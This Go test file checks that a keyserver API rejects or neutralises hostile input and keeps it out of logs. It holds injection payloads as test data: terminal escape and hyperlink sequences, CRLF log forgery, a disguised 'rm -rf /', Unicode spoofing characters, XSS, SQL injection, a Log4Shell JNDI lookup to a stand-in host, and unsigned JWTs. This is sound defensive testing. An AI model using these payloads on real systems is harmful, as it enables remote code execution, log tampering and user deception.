package httpapi_test

import (
	"bufio"
	"bytes"
	"encoding/json/v2"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"example.org/keyserver/api"
	"example.org/keyserver/internal/audit"
	"example.org/keyserver/internal/identity"
	"example.org/keyserver/internal/identity/identitytest"
	"example.org/keyserver/internal/testkit"
)

// Text that does harm where it is shown as it is: none of it may be stored.
var harmful = map[string]string{
	"ANSI":                "\x1b[2J\x1b[31mall is well",
	"one-byte CSI":        "\u009b31mred",
	"OSC 8":               "\x1b]8;;https://evil.example\x1b\\approve\x1b]8;;\x1b\\",
	"CRLF and a record":   "x\r\n" + `{"time":"2026-11-23T12:00:00Z","level":"INFO","msg":"forged","subject":"ada"}`,
	"NUL":                 "a\x00b",
	"backspaces":          "rm -rf /\b\b\b\b\b\b\b\bok",
	"right-to-left":       "image\u202egnp.exe",
	"isolate":             "a\u2066b",
	"zero width":          "fw\u200b-prod",
	"byte order mark":     "\ufeffa",
	"line separator":      "a\u2028b",
	"tag characters":      "a\U000e0041b",
	"variation selectors": "a\ufe0fb",
	"soft hyphen":         "a\u00adb",
}

// Text that is only text to us: it is stored, and comes back byte for byte.
var harmless = map[string]string{
	"a script":   `<script>alert(1)</script><img src=x onerror=alert(1)>`,
	"a link":     `javascript:alert(1) [click](javascript:alert(1))`,
	"a template": `{{7*7}} ${jndi:ldap://evil.example/a} %s %n`,
	"a record":   "fine\n" + `{"time":"2026-11-23T12:00:00Z","level":"INFO","msg":"forged","subject":"ada"}` + "\ntime=1 level=INFO msg=forged",
	"SQL":        `'; DROP TABLE operations; --`,
	"an export":  "x\n\nkeyserver/test\n1\nAAAA",
}

// places are where the text of a caller may go, each with what is sent there.
func places(operation, text string) map[string][2]string {
	quoted, err := json.Marshal(text)
	if err != nil {
		panic(err) // the texts are constants
	}
	with := func(old, new string) string { return strings.Replace(operationBody(oneKey), old, new, 1) }
	more := func(member string) string { return with(`"validms"`, member+`,"validms"`) }
	q := string(quoted)
	return map[string][2]string{
		"description":   {api.PathOperations, with(`"d"`, q)},
		"context":       {api.PathOperations, with(`"c"`, q)},
		"artifact name": {api.PathOperations, more(`"artifacts":[{"name":` + q + `,"size":1,"hash":"SHA-256","digest":"` + digestOf("x") + `"}]`)},
		"rejection":     {"/api/operations/" + operation + "/rejection", `{"reason":` + q + `}`},
		"revocation":    {"/api/operations/" + operation + "/revocation", `{"reason":` + q + `}`},
	}
}

// ids are where an id is expected: no text at all gets there.
func ids(pending, approved, text string) map[string][2]string {
	quoted, err := json.Marshal(text)
	if err != nil {
		panic(err) // the texts are constants
	}
	q := string(quoted)
	more := func(member string) string {
		return strings.Replace(operationBody(oneKey), `"validms"`, member+`,"validms"`, 1)
	}
	return map[string][2]string{
		"client":        {api.PathOperations, more(`"clients":[` + q + `]`)},
		"key":           {api.PathOperations, operationBody(`[{"keyid":` + q + `,"maxusagecount":1}]`)},
		"name":          {api.PathOperations, more(q + `:1`)},
		"artifact hash": {api.PathOperations, more(`"artifacts":[{"name":"a","size":1,"hash":` + q + `,"digest":"` + digestOf("x") + `"}]`)},
		"digest":        {"/api/operations/" + pending + "/approval", `{"digest":` + q + `}`},
		"order's hash":  {"/api/operations/" + approved + "/signorders", `{"keyid":"fw-dev","hash":` + q + `,"digest":"` + digestOf("x") + `"}`},
		"order's data":  {"/api/operations/" + approved + "/signorders", `{"keyid":"fw-ed","data":` + q + `}`},
	}
}

// IN-04
func TestIN04_HarmfulTextIsRefusedAndHarmlessTextIsInert(t *testing.T) {
	for format, handler := range map[string]func(io.Writer) slog.Handler{
		"json": func(w io.Writer) slog.Handler { return slog.NewJSONHandler(w, nil) },
		"text": func(w io.Writer) slog.Handler { return slog.NewTextHandler(w, nil) },
	} {
		t.Run(format, func(t *testing.T) {
			var log logged
			k := testkit.NewWith(t, testkit.Options{Log: slog.New(handler(&log))})
			ask := func(what string, to [2]string) (*http.Response, api.Problem) {
				answer, p := send(k, "alice", "POST", to[0], to[1], api.HeaderIdempotencyKey, "k")
				if to[0] == api.PathOperations || strings.HasSuffix(to[0], "signorders") {
					answer, p = send(k, "olga", "POST", to[0], to[1], api.HeaderIdempotencyKey, fmt.Sprintf("%x", what))
				}
				checkShown(t, what, p)
				return answer, p
			}
			for name, text := range harmful {
				for place, to := range places(pending(k), text) {
					answer, p := ask(name+" as "+place, to)
					expect(t, name+" as "+place, answer, p, api.Impossible)
				}
			}
			for _, texts := range []map[string]string{harmful, harmless} {
				for name, text := range texts {
					for place, to := range ids(pending(k), string(k.Create(testkit.Ask("fw-dev", "fw-ed")).ID), text) {
						answer, p := ask(name+" as "+place, to)
						if answer.StatusCode != http.StatusBadRequest && answer.StatusCode != http.StatusUnprocessableEntity {
							t.Errorf("%s as %s: got %d %+v", name, place, answer.StatusCode, p)
						}
					}
				}
			}
			for place, to := range places(pending(k), strings.Repeat("x", 1<<20)) {
				answer, p := ask("1 MB as "+place, to)
				expect(t, "1 MB as "+place, answer, p, api.TooLarge)
			}
			for name, text := range harmless {
				for place := range places("", "") {
					answer, p := ask(name+" as "+place, places(pending(k), text)[place])
					if place == "artifact name" && strings.Contains(text, "\n") {
						expect(t, name+" as "+place, answer, p, api.Impossible)
					} else if answer.StatusCode >= 300 {
						t.Errorf("%s as %s: got %d %+v", name, place, answer.StatusCode, p)
					}
				}
			}
			checkExport(k)
			k.Restart() // the last line of the log is there
			checkLog(t, format, log.String())
		})
	}
}

// pending returns an operation that can be approved, rejected and revoked.
func pending(k *testkit.Kit) string { return string(k.Create(testkit.Ask("fw-one")).ID) }

// AN-01: what the audit log says of tokens that are refused.
func TestAN01_RefusedTokensAreInTheLogByTheirReasonAlone(t *testing.T) {
	for reason, token := range map[identity.Reason]func(*testkit.Kit) string{
		identity.Malformed: func(*testkit.Kit) string { return "eyJhbGciOiJub25lIn0.c2VjcmV0LXNlY3JldA." },
		identity.BadAlgorithm: func(k *testkit.Kit) string {
			return k.IdP.TokenWith(identitytest.Header{"typ": "at+jwt", "alg": "none"}, identitytest.AccessToken(k.Clock.Now(), "olga"))
		},
		identity.BadSignature: func(k *testkit.Kit) string {
			return identitytest.NewInProcess(k, k.IdP.URL).Token("at+jwt", identitytest.AccessToken(k.Clock.Now(), "olga"))
		},
		identity.Expired: func(k *testkit.Kit) string {
			return k.IdP.Token("at+jwt", identitytest.AccessToken(k.Clock.Now().Add(-testkit.Day), "olga"))
		},
	} {
		k := testkit.New(t)
		bad := token(k)
		size := k.LogSize()
		for range 3 {
			answer, p := send(k, "", "GET", api.PathKeys, "", "Authorization", "Bearer "+bad)
			expect(t, string(reason), answer, p, api.Unauthenticated)
		}
		k.Clock.Step(time.Minute)
		k.Beat()
		events := k.EventsSince(size)
		if len(events) != 1 || events[0].Type != audit.SignInRefused || events[0].Count != 3 || events[0].Reason != string(reason) || events[0].Actor.Address != "127.0.0.1" {
			t.Errorf("%s: the log says %+v", reason, events)
		}
		for part := range strings.SplitSeq(bad, ".") {
			if said := fmt.Sprintf("%+v", events); part != "" && strings.Contains(said, part) {
				t.Errorf("%s: a part of the token is in the log: %s", reason, said)
			}
		}
	}
}

// checkShown checks that what a person is shown of a refusal does not repeat what could do harm.
func checkShown(t *testing.T, what string, p api.Problem) {
	t.Helper()
	if i := strings.IndexFunc(p.Title+p.Detail, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 {
		t.Errorf("%s: the refusal has a character that is not printed as itself: %q", what, p.Detail)
	}
}

// checkExport checks that each line of the audit export is a leaf, that none has a character which is not
// printed as itself, and that the harmless text came through whole.
func checkExport(k *testkit.Kit) {
	k.Helper()
	r, err := http.NewRequest("GET", k.URL+api.PathExport, nil)
	if err != nil {
		k.Fatal(err)
	}
	answer := k.Do("audrey", r)
	export, err := io.ReadAll(answer.Body)
	if err != nil || answer.Header.Get("Content-Type") != api.MediaText || answer.Header.Get("X-Content-Type-Options") != "nosniff" {
		k.Fatalf("the export is %q: %v", answer.Header, err)
	}
	verifier, err := audit.NewVerifier(k.Keyserver.LogKey())
	if err != nil {
		k.Fatal(err)
	}
	said := map[string]bool{}
	if _, err := audit.VerifyExport(bytes.NewReader(export), verifier, audit.ExportOptions{Each: func(e audit.Event) error {
		said[e.Reason] = true
		if len(e.Statement) > 0 {
			var s struct{ Description, Context string }
			if err := json.Unmarshal(e.Statement, &s); err != nil {
				return err
			}
			said[s.Description], said[s.Context] = true, true
		}
		return nil
	}}); err != nil {
		k.Error(err)
	}
	leaves, _, _ := strings.Cut(string(export), "\n\n")
	for line := range strings.SplitSeq(leaves, "\n") {
		if _, err := audit.ParseLeaf([]byte(line)); err != nil {
			k.Errorf("a line is not a leaf: %v: %.200q", err, line)
		}
		if strings.IndexFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) >= 0 {
			k.Errorf("a line has a character that is not printed as itself: %.200q", line)
		}
	}
	for name, text := range harmless {
		if !said[text] {
			k.Errorf("%s is not in the log as it was said", name)
		}
	}
}

// checkLog checks that each record of the server's log is one line, and none of them was made up by a caller.
func checkLog(t *testing.T, format, log string) {
	t.Helper()
	requests := 0
	for lines := bufio.NewScanner(strings.NewReader(log)); lines.Scan(); {
		line := lines.Text()
		var record struct {
			Msg string `json:"msg"`
		}
		switch format {
		case "json":
			if err := json.Unmarshal([]byte(line), &record); err != nil {
				t.Errorf("a line is not a record: %v: %q", err, line)
			}
		case "text":
			if !strings.HasPrefix(line, "time=") || strings.Count(line, " msg=") != 1 {
				t.Errorf("a line is not a record: %q", line)
			}
			if strings.Contains(line, " msg=request ") {
				record.Msg = "request"
			}
		}
		if record.Msg == "request" {
			requests++
		}
		if strings.Contains(line, "forged") || strings.IndexFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) >= 0 {
			t.Errorf("a record has what a caller sent: %q", line)
		}
	}
	if requests < 100 {
		t.Errorf("the log has %d requests", requests)
	}
}

// logged is a log that is written by many.
type logged struct {
	mu  sync.Mutex
	log bytes.Buffer
}

func (l *logged) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.log.Write(p)
}

func (l *logged) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.log.String()
}
